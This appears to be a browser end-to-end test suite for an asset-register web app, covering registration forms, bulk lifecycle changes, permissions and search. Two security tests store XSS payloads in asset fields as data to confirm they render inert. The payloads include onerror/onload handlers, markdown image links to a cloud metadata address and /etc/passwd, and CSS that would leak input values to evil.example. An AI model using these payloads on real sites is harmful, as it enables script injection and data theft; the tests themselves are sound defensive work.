import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAccount, createAsset, createAssetType, createRole, grantRole, listLifecycleModels, setAccountPassword, updateAsset } from '@custodia/core';
import { readJson } from '@custodia/data';
import { type WebServer, WEB_PASSWORD, expectAccessible, signIn, startWebServer } from '../../../test/support/web.js';

/** Registering from the generated form, and bulk changes checked item by item before they apply. */
describe('register actions in a real browser', () => {
  let server: WebServer;
  beforeAll(async () => { server = await startWebServer(); }, 600_000);
  afterAll(async () => { await server?.close(); });

  const count = async () => Number((await server.db.db.selectFrom('assets').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

  it('registers an asset from the form generated from its type; a missing required field is shown and nothing is written', async () => {
    const page = await signIn(server);
    await page.goto(`${server.base}/assets`);
    await page.getByRole('button', { name: 'New asset' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel(/^Type/).first().click();
    await page.getByRole('option', { name: 'Software licence' }).click();
    await dialog.getByRole('textbox', { name: /^Name/ }).fill('Design suite');
    await dialog.getByRole('textbox', { name: /^Product/ }).waitFor();
    await expectAccessible(page, 'new-asset');
    const before = await count();
    // The browser enforces the required field first; removing that check shows the server's answer on the field.
    await dialog.getByRole('textbox', { name: /^Product/ }).evaluate((el) => el.removeAttribute('required'));
    await dialog.getByRole('button', { name: 'Register' }).click();
    await dialog.getByText(/Product is required/).first().waitFor();
    expect(await count()).toBe(before);
    await dialog.getByRole('textbox', { name: /^Product/ }).fill('Suite Pro');
    await dialog.getByRole('textbox', { name: /^Licence key/ }).fill('KEY-1234');
    await dialog.getByRole('button', { name: 'Register' }).click();
    await page.waitForURL(/\/assets\/[0-9a-f-]{36}$/);
    await page.getByRole('heading', { name: /LIC-\d+ · Design suite/ }).waitFor();
    expect(await count()).toBe(before + 1);
    await page.close();
  });

  it('registers a cloud resource with its monthly cost and purchase details, edits its warranty, and deletes it as a mistake', async () => {
    const page = await signIn(server);
    await page.goto(`${server.base}/assets`);
    await page.getByRole('button', { name: 'New asset' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel(/^Type/).first().click();
    await page.getByRole('option', { name: 'Cloud resource' }).click();
    await dialog.getByRole('textbox', { name: /^Name/ }).fill('Billing database');
    await dialog.getByLabel(/^Provider\s*\*?$/).first().click();
    // The type's labels for its choices, not their stored values.
    expect(await page.getByRole('option').allTextContents()).toEqual(['AWS', 'Microsoft Azure', 'Google Cloud', 'Other']);
    await page.getByRole('option', { name: 'AWS' }).click();
    // Money as people write it: a decimal comma, the currency in lower case.
    await dialog.getByRole('textbox', { name: /^Monthly cost\s*\*?$/ }).fill('120,50');
    await dialog.getByRole('textbox', { name: 'Monthly cost: currency' }).fill('eur');
    await dialog.getByRole('textbox', { name: /^Purchase date/ }).fill('2026-10-01');
    await dialog.getByRole('textbox', { name: /^Purchase cost\s*\*?$/ }).fill('1349');
    await dialog.getByRole('textbox', { name: 'Purchase cost: currency' }).fill('EUR');
    await dialog.getByRole('textbox', { name: /^Warranty end/ }).fill('2029-09-30');
    await dialog.getByRole('textbox', { name: /^Order reference/ }).fill('PO-9001');
    await expectAccessible(page, 'new-asset-purchase');
    await dialog.getByRole('button', { name: 'Register' }).click();
    await page.waitForURL(/\/assets\/[0-9a-f-]{36}$/);
    const id = page.url().split('/').pop()!;
    const stored = async () => server.db.db.selectFrom('assets').selectAll().where('id', '=', id).executeTakeFirst();
    const row = (await stored())!;
    expect(readJson<unknown>(row.attributes, null)).toMatchObject({ provider: 'aws', monthly_cost: { amountMinor: 12050, currency: 'EUR' } });
    expect(row).toMatchObject({ purchase_date: '2026-10-01', purchase_cost_minor: 134900, purchase_currency: 'EUR', warranty_end: '2029-09-30', order_reference: 'PO-9001' });
    await page.getByRole('group', { name: 'Monthly cost' }).getByText('120.50 EUR').waitFor();
    await page.getByRole('group', { name: 'Provider' }).getByText('AWS', { exact: true }).waitFor();
    await page.locator('.history-changes').getByRole('row').filter({ hasText: 'Provider' }).filter({ hasText: '→ AWS' }).waitFor();
    // Amounts read grouped in the reader's locale; the input keeps the plain form it accepts.
    await page.getByRole('group', { name: 'Cost', exact: true }).getByText('1,349.00 EUR', { exact: true }).waitFor();

    // An edit changes what was changed: the warranty moves, the rest stays.
    await page.getByRole('button', { name: 'Edit' }).click();
    const edit = page.getByRole('dialog');
    expect(await edit.getByRole('textbox', { name: /^Purchase cost\s*\*?$/ }).inputValue()).toBe('1349.00');
    expect(await edit.getByLabel(/^Provider\s*\*?$/).first().inputValue()).toBe('AWS');
    await edit.getByRole('textbox', { name: /^Warranty end/ }).fill('2030-09-30');
    await edit.getByRole('button', { name: 'Save' }).click();
    await edit.waitFor({ state: 'detached' });
    await expect.poll(async () => (await stored())!.warranty_end).toBe('2030-09-30');
    const after = (await stored())!;
    expect(after).toMatchObject({ purchase_cost_minor: 134900, order_reference: 'PO-9001' });
    expect(readJson<unknown>(after.attributes, null)).toEqual(readJson<unknown>(row.attributes, null));

    // Registered by mistake: deleted with its reason, which the history keeps.
    await page.getByRole('button', { name: 'Delete' }).click();
    const del = page.getByRole('dialog');
    await del.getByRole('textbox', { name: /^Reason/ }).fill('Registered twice');
    await del.getByRole('button', { name: 'Delete' }).click();
    await page.waitForURL(/\/assets$/);
    expect(await stored()).toBeUndefined();
    const event = await server.db.db.selectFrom('events').select(['action', 'reason']).where('entity_id', '=', id).orderBy('seq', 'desc').executeTakeFirstOrThrow();
    expect(event).toEqual({ action: 'delete', reason: 'Registered twice' });
    await page.close();
  });

  it('bulk: each selected asset is checked first; an invalid one blocks the change, a valid selection applies atomically', async () => {
    const page = await signIn(server);
    await page.goto(`${server.base}/assets?q=LAP-&stage=in_stock`);
    const rows = page.getByRole('table', { name: 'Assets' }).locator('tbody tr');
    await rows.first().waitFor();
    const tags = (await rows.locator('td:nth-child(2)').allTextContents()).slice(0, 2);
    expect(tags).toHaveLength(2);
    for (const tag of tags) await page.getByRole('checkbox', { name: `Select ${tag}` }).check();
    await page.getByRole('button', { name: 'Change selected (2)' }).click();
    const dialog = page.getByRole('dialog');
    const stages = async () => (await server.db.db.selectFrom('assets').select('stage').where('tag', 'in', tags).execute()).map((r) => r.stage);
    const verdicts = dialog.getByRole('table', { name: 'Check of each asset' }).locator('tbody tr');
    // A move needs its destination: without one nothing can be checked or applied (none would clear every location).
    await dialog.getByLabel(/^Change/).first().click();
    await page.getByRole('option', { name: 'Move to a location' }).click();
    expect(await dialog.getByRole('button', { name: 'Check each asset' }).isDisabled()).toBe(true);
    expect(await dialog.getByRole('button', { name: 'Apply to 2' }).isDisabled()).toBe(true);
    await dialog.getByLabel(/^Change/).first().click();
    await page.getByRole('option', { name: 'Lifecycle transition' }).click();
    // Assets in stock cannot be checked in: every item is refused and nothing can be applied.
    await dialog.getByLabel(/^Transition/).first().click();
    await page.getByRole('option', { name: 'Check in to stock' }).click();
    await dialog.getByRole('button', { name: 'Check each asset' }).click();
    await verdicts.first().waitFor();
    expect(await verdicts.allTextContents()).toEqual([expect.not.stringContaining('OK'), expect.not.stringContaining('OK')]);
    expect(await dialog.getByRole('button', { name: 'Apply to 2' }).isDisabled()).toBe(true);
    await expectAccessible(page, 'bulk');
    expect(await stages()).toEqual(['in_stock', 'in_stock']);
    // Sending them to maintenance, with the reason the transition requires, is valid for both: checked, then applied.
    await dialog.getByLabel(/^Transition/).first().click();
    await page.getByRole('option', { name: 'Send to maintenance' }).click();
    await dialog.getByLabel(/^Reason\s*\*?$/).fill('Battery swap');
    await dialog.getByRole('button', { name: 'Check each asset' }).click();
    await dialog.getByText('Every asset can take this change').waitFor();
    expect(await stages()).toEqual(['in_stock', 'in_stock']);
    await dialog.getByRole('button', { name: 'Apply to 2' }).click();
    await dialog.waitFor({ state: 'detached' });
    await expect.poll(stages).toEqual(['maintenance', 'maintenance']);
    await page.close();
  });

  it('bulk changes are offered only as far as the session may make them: a move without assets.transition, nothing with assets.bulk alone', async () => {
    const ctx = server.ctx;
    const mover = await createRole(ctx, { key: 'bulk_mover', name: 'Bulk mover', permissions: ['register.read', 'assets.read', 'assets.bulk', 'assets.write'] });
    const idle = await createRole(ctx, { key: 'bulk_only', name: 'Bulk only', permissions: ['register.read', 'assets.read', 'assets.bulk'] });
    for (const [login, role] of [['mover', mover.key], ['bulky', idle.key]] as const) {
      const account = await createAccount(ctx, { login, displayName: login });
      await grantRole(ctx, account.id, { roleKey: role, orgUnitId: null });
      await setAccountPassword(ctx, account.id, WEB_PASSWORD);
    }
    const page = await signIn(server, 'mover');
    await page.goto(`${server.base}/assets?q=LAP-&stage=in_stock`);
    const rows = page.getByRole('table', { name: 'Assets' }).locator('tbody tr');
    await rows.first().waitFor();
    const tag = (await rows.locator('td:nth-child(2)').first().textContent())!;
    await page.getByRole('checkbox', { name: `Select ${tag}` }).check();
    await page.getByRole('button', { name: 'Change selected (1)' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.waitFor();
    await dialog.getByLabel(/^Change/).first().click();
    expect(await page.getByRole('option').allTextContents()).toEqual(['Move to a location']);
    await page.close();

    const other = await signIn(server, 'bulky');
    await other.goto(`${server.base}/assets?q=LAP-&stage=in_stock`);
    await other.getByRole('table', { name: 'Assets' }).locator('tbody tr').first().waitFor();
    expect(await other.getByRole('button', { name: /Change selected/ }).count()).toBe(0);
    await other.close();
  });

  it('a transition refused because someone else changed the asset keeps the evidence typed, and goes through on the current version', async () => {
    const page = await signIn(server);
    const asset = await server.db.db.selectFrom('assets').select(['id', 'version']).where('stage', '=', 'in_stock').where('tag', 'like', 'LAP-%').orderBy('tag', 'desc').limit(1).executeTakeFirstOrThrow();
    await page.goto(`${server.base}/assets/${asset.id}`);
    await page.getByRole('button', { name: 'Send to maintenance' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: /^Reason\s*\*?$/ }).first().fill('Hinge cracked');
    await dialog.getByRole('textbox', { name: /^Ticket/ }).fill('RMA-5521');
    await updateAsset(server.ctx, asset.id, Number(asset.version), { notes: 'Changed meanwhile' });
    await dialog.getByRole('button', { name: 'Send to maintenance' }).click();
    await dialog.getByText('Someone else changed this asset').waitFor();
    await dialog.getByRole('button', { name: 'See the current asset' }).click();
    await dialog.getByText(/Your evidence is kept/).waitFor();
    expect(await dialog.getByRole('textbox', { name: /^Ticket/ }).inputValue()).toBe('RMA-5521');
    await dialog.getByRole('button', { name: 'Send to maintenance' }).click();
    await dialog.waitFor({ state: 'detached' });
    const stored = await server.db.db.selectFrom('assets').select(['stage', 'notes']).where('id', '=', asset.id).executeTakeFirstOrThrow();
    expect(stored).toEqual({ stage: 'maintenance', notes: 'Changed meanwhile' });
    const evidence = await server.db.db.selectFrom('lifecycle_transitions').select('evidence').where('asset_id', '=', asset.id).orderBy('performed_at', 'desc').executeTakeFirstOrThrow();
    expect(readJson<unknown>(evidence.evidence, null)).toMatchObject({ maintenance_reason: 'Hinge cracked', ticket_reference: 'RMA-5521' });
    await page.close();
  });

  it('a list starts again at its first page when its filters change from outside the page (a link, Back)', async () => {
    const page = await signIn(server);
    await page.goto(`${server.base}/assets?stage=in_use`);
    const tags = page.getByRole('table', { name: 'Assets' }).locator('tbody tr td:nth-child(2)');
    await tags.first().waitFor();
    const first = await tags.first().textContent();
    await page.getByRole('button', { name: 'Next' }).click();
    await expect.poll(() => tags.first().textContent()).not.toBe(first);
    expect(await page.getByRole('button', { name: 'Previous' }).isDisabled()).toBe(false);
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Register' }).click();
    await page.waitForURL((u) => u.pathname === '/assets' && u.search === '');
    await expect.poll(() => page.getByRole('button', { name: 'Previous' }).isDisabled()).toBe(true);
    await page.close();
  });

  it('records a move on the asset page: the IMAC table and the location of the asset follow', async () => {
    const page = await signIn(server);
    const asset = await server.db.db.selectFrom('assets').select(['id', 'tag']).where('stage', '=', 'in_use').orderBy('tag').limit(1).executeTakeFirstOrThrow();
    const target = await server.db.db.selectFrom('locations').select(['id', 'name', 'parent_id']).where('kind', '=', 'room').orderBy('name').limit(1).executeTakeFirstOrThrow();
    // Rooms of every site share names: the picker names each with its ancestors.
    const trail = [target.name];
    for (let parent = target.parent_id; parent;) {
      const p = await server.db.db.selectFrom('locations').select(['name', 'parent_id']).where('id', '=', parent).executeTakeFirstOrThrow();
      trail.unshift(p.name);
      parent = p.parent_id;
    }
    await page.goto(`${server.base}/assets/${asset.id}`);
    await page.getByRole('button', { name: 'Record install, move, add or change' }).click();
    const dialog = page.getByRole('dialog');
    // Typed into only once the dialog has opened: its focus trap takes the focus (closing a list just opened) when its
    // opening transition ends, which on a busy machine can come after the first keystrokes.
    await dialog.waitFor();
    await page.waitForFunction(() => document.getAnimations().every((a) => a.playState !== 'running'));
    await dialog.getByLabel(/^New location/).first().fill(target.name.slice(0, 6));
    await page.getByRole('option', { name: trail.join(' › '), exact: true }).click();
    await dialog.getByLabel(/^Reason/).fill('Desk move');
    await expectAccessible(page, 'imac');
    await dialog.getByRole('button', { name: 'Record' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.getByRole('table', { name: 'IMAC records' }).getByText(target.name).waitFor();
    const stored = await server.db.db.selectFrom('assets').select('location_id').where('id', '=', asset.id).executeTakeFirstOrThrow();
    expect(stored.location_id).toBe(target.id);
    await page.close();
  });

  it('global search (press /) finds assets by tag and people by name; a person leads to their page and their assets', async () => {
    const page = await signIn(server);
    const holder = await server.db.db.selectFrom('assets').innerJoin('people', 'people.id', 'assets.assigned_person_id').select(['people.name', 'people.id']).limit(1).executeTakeFirstOrThrow();
    const box = page.getByRole('textbox', { name: 'Search assets and people' });
    await box.waitFor();
    await page.getByRole('heading', { name: /Welcome/ }).click();
    await page.keyboard.press('/');
    await expect.poll(() => box.evaluate((el) => el === el.ownerDocument.activeElement)).toBe(true);
    await page.keyboard.type(holder.name);
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/search\?q=/);
    await page.getByRole('heading', { name: 'People' }).waitFor();
    await expectAccessible(page, 'search');
    // The name opens the person; "assets" beside it lists what they hold.
    const personLink = page.getByRole('link', { name: holder.name, exact: true }).and(page.locator(`[href*="${holder.id}"]`));
    expect(await personLink.getAttribute('href')).toBe(`/admin/people?person=${holder.id}`);
    await page.getByRole('link', { name: `Assets assigned to ${holder.name}` }).and(page.locator(`[href*="${holder.id}"]`)).click();
    await page.waitForURL(new RegExp(`assignedPersonId=${holder.id}`));
    await page.getByText(`Assigned to ${holder.name}`).waitFor();
    const rows = page.getByRole('table', { name: 'Assets' }).locator('tbody tr');
    await rows.first().waitFor();
    const expected = Number((await server.db.db.selectFrom('assets').select((eb) => eb.fn.countAll().as('n')).where('assigned_person_id', '=', holder.id).executeTakeFirstOrThrow()).n);
    await expect.poll(() => rows.count()).toBe(Math.min(expected, 50));
    await page.close();
  });

  it('reference attributes show the chosen person and asset by name and the location with its ancestors, never an id', async () => {
    const ctx = server.ctx;
    const model = (await listLifecycleModels(ctx, 'hardware'))[0]!;
    const type = await createAssetType(ctx, {
      key: 'loan_kit', name: 'Loan kit', category: 'hardware', lifecycleModelId: model.id, tagPattern: 'KIT-{seq:4}',
      attributeSchema: [{ key: 'lent_by', label: 'Lent by', type: 'person_ref' }, { key: 'kept_at', label: 'Kept at', type: 'location_ref' }, { key: 'case', label: 'Case', type: 'asset_ref' }],
    });
    // The last person by name: not among the first page of suggestions.
    const person = await server.db.db.selectFrom('people').select(['id', 'name']).orderBy('name', 'desc').limit(1).executeTakeFirstOrThrow();
    const room = await server.db.db.selectFrom('locations').select(['id']).where('name', '=', 'Stockroom').limit(1).executeTakeFirstOrThrow();
    const other = await server.db.db.selectFrom('assets').select(['id', 'tag', 'name']).orderBy('tag', 'desc').limit(1).executeTakeFirstOrThrow();
    const kit = await createAsset(ctx, { name: 'Loan kit 1', assetTypeId: type.id, attributes: { lent_by: person.id, kept_at: room.id, case: other.id } } as never);
    const page = await signIn(server);
    await page.goto(`${server.base}/assets/${kit.id}`);
    // The details name what the attributes point at, as links.
    await page.getByRole('group', { name: 'Lent by' }).getByRole('link', { name: new RegExp(person.name) }).waitFor();
    expect(await page.getByRole('group', { name: 'Case' }).getByRole('link').getAttribute('href')).toBe(`/assets/${other.id}`);
    await page.getByRole('group', { name: 'Kept at' }).getByRole('link', { name: 'Stockroom' }).waitFor();
    await page.getByRole('button', { name: 'Edit' }).click();
    const dialog = page.getByRole('dialog');
    await expect.poll(() => dialog.getByRole('combobox', { name: 'Lent by' }).inputValue()).toContain(person.name);
    await expect.poll(() => dialog.getByRole('combobox', { name: 'Case' }).inputValue()).toBe(`${other.tag} · ${other.name}`);
    await expect.poll(() => dialog.getByRole('combobox', { name: 'Kept at' }).inputValue()).toMatch(/ › Stockroom$/);
    const values = await dialog.locator('input:not([type=hidden])').evaluateAll((els) => els.map((e) => (e as HTMLInputElement).value));
    expect(values.filter((v) => /[0-9a-f]{8}-[0-9a-f]{4}-/.test(v))).toEqual([]);
    await page.close();
  });

  it('IN-03: notes holding markdown, HTML and CSS are shown as the text they are; the page fetches nothing they name', async () => {
    const asset = await server.db.db.selectFrom('assets').select(['id', 'version']).orderBy('tag').limit(1).executeTakeFirstOrThrow();
    const notes = [
      '![x](http://169.254.169.254/latest/meta-data/)',
      '![y](file:///etc/passwd)',
      '<img src="http://evil.example/x.png" onerror="window.pwned = 1">',
      '<style>@import url(//evil.example/a.css); input[value^=a]{background:url(//evil.example/a)}</style>',
    ].join('\n');
    await updateAsset(server.ctx, asset.id, Number(asset.version), { notes });
    const page = await signIn(server);
    const elsewhere: string[] = [];
    page.on('request', (request) => { if (!request.url().startsWith(server.base)) elsewhere.push(request.url()); });
    await page.goto(`${server.base}/assets/${asset.id}`);
    // Shown in the asset's summary (and in its history, as the change).
    const shown = page.getByText('![x](http://169.254.169.254/latest/meta-data/)', { exact: false });
    await shown.first().waitFor();
    expect(await shown.evaluateAll((elements) => elements.map((e) => (e as HTMLElement).innerText))).toContain(notes);
    expect(await page.locator('img[src*="evil"], img[src*="169.254"], img[src^="file:"]').count()).toBe(0);
    expect(await page.evaluate(() => [...document.querySelectorAll('style, link')].some((e) => (e.textContent ?? '').includes('evil.example') || (e.getAttribute('href') ?? '').includes('evil.example')))).toBe(false);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    expect(elsewhere, 'requests to other hosts').toEqual([]);
    await page.close();
  });

  it('IN-01: markup stored in an asset\'s name and serial shows as text in the list, on its page and on its label; nothing of it runs', async () => {
    const type = await server.db.db.selectFrom('asset_types').select('id').where('key', '=', 'laptop').executeTakeFirstOrThrow();
    const name = '"><<img src=x onerror="window.pwned=1"> <svg onload="window.pwned=2">';
    const serial = '<img src=x onerror=window.pwned=3>';
    const asset = await createAsset(server.ctx, { name, serial, assetTypeId: type.id });
    const page = await signIn(server);
    for (const [url, shown] of [[`/assets?q=${encodeURIComponent('onerror')}`, true], [`/assets/${asset.id}`, true], [`/labels?ids=${asset.id}`, false]] as const) {
      await page.goto(`${server.base}${url}`);
      await page.getByText(asset.tag).first().waitFor();
      if (shown) expect(await page.evaluate(() => document.body.innerText), url).toContain('onerror="window.pwned=1"');
      expect(await page.locator('img[src="x"], svg[onload], [onerror]').count(), url).toBe(0);
      expect(await page.evaluate(() => (window as { pwned?: number }).pwned), url).toBeUndefined();
    }
    await page.close();
  });

  it('a searchable location filter finds options without their accents (munchen → München Schwabing) and names each with its ancestors', async () => {
    const page = await signIn(server);
    await page.goto(`${server.base}/assets`);
    const location = page.getByLabel('Location', { exact: true }).first();
    await location.click();
    await location.fill('munchen schw');
    // Locations are named with their ancestors, so the many rooms called "Stockroom" can be told apart.
    await page.getByRole('option', { name: 'Germany › München Schwabing', exact: true }).click();
    await page.waitForURL(/locationId=[0-9a-f-]{36}/);
    await expect.poll(() => location.inputValue()).toBe('Germany › München Schwabing');
    // The rows name each asset's room with its site.
    const firstRow = page.getByRole('table', { name: 'Assets' }).locator('tbody tr').first();
    await expect.poll(() => firstRow.innerText()).toMatch(/ · München Schwabing/);
    await location.fill('stockroom');
    const rooms = await page.getByRole('option').allInnerTexts();
    expect(rooms.length).toBeGreaterThan(1);
    expect(new Set(rooms).size, 'every "Stockroom" is told apart by where it is').toBe(rooms.length);
    expect(rooms.every((r) => / › Stockroom$/.test(r))).toBe(true);
    await page.close();
  });

  it('on a phone the filters fold behind a button, so the assets come first; the button counts the filters set', async () => {
    const page = await signIn(server);
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(`${server.base}/assets`);
    const rows = page.getByRole('table', { name: 'Assets' }).locator('tbody tr');
    await rows.first().waitFor();
    const stage = page.getByLabel('Stage', { exact: true }).first();
    expect(await stage.count()).toBe(1);
    expect(await stage.isVisible()).toBe(false);
    // The first asset is on the first screen, under the search box.
    expect((await rows.first().boundingBox())!.y).toBeLessThan(844);
    const toggle = page.getByRole('button', { name: 'Filters', exact: true });
    expect(await toggle.getAttribute('aria-expanded')).toBe('false');
    await toggle.click();
    await stage.click();
    await page.getByRole('option', { name: 'In stock', exact: true }).click();
    await page.waitForURL(/stage=in_stock/);
    await page.getByRole('button', { name: 'Hide filters' }).click();
    expect(await stage.isVisible()).toBe(false);
    await page.getByRole('button', { name: 'Filters (1)' }).waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await expectAccessible(page, 'register-phone');
    await page.close();
  });
});
